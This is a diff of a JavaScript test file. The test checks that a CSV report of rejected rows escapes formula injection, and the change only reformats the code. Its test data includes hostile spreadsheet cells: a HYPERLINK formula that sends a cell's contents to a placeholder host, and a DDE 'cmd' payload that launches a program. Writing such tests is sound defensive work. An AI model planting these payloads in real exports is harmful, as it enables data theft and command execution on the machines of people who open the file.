@@ -22,14 +22,24 @@ describe('the report of refused rows (issue 34, finding 7: CSV injection)', () =
   it('starts no cell with a formula: =, +, -, @, tab or carriage return get a single quote; numbers stay numbers', async () => {
     const path = folder.path('report.csv');
     const report = new RejectReport(path);
-    const hostile = ['=HYPERLINK("http://example.test/?"&A1;"Нажмите")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+    const hostile = [
+      '=HYPERLINK("http://example.test/?"&A1;"Нажмите")',
+      '+1+cmd|" /C calc"!A0',
+      '-2+3',
+      '@SUM(A1:A9)',
+      '\t=1+1',
+      '\r=1+1',
+    ];
     for (const [index, cell] of hostile.entries()) {
       report.add({ line: index + 2, reason: 'price is not a number', fields: [cell, 'Knecht', '-5'] });
     }
     report.add({ line: 9, reason: 'price is not a number', fields: ['-5', '-1 234,50', '+7'] });
     report.add({ line: 10, reason: 'price is not a number', fields: ['-1 234,50'] });
     report.close();
-    const lines = (await readFile(path, 'utf8')).replace(/^\uFEFF/, '').split('\n').filter(Boolean);
+    const lines = (await readFile(path, 'utf8'))
+      .replace(/^\uFEFF/, '')
+      .split('\n')
+      .filter(Boolean);
     expect(lines[0]).toBe('line;reason;row');
     const rows = lines.slice(1).map(cellsOf);
     for (const [index, cell] of hostile.entries()) {
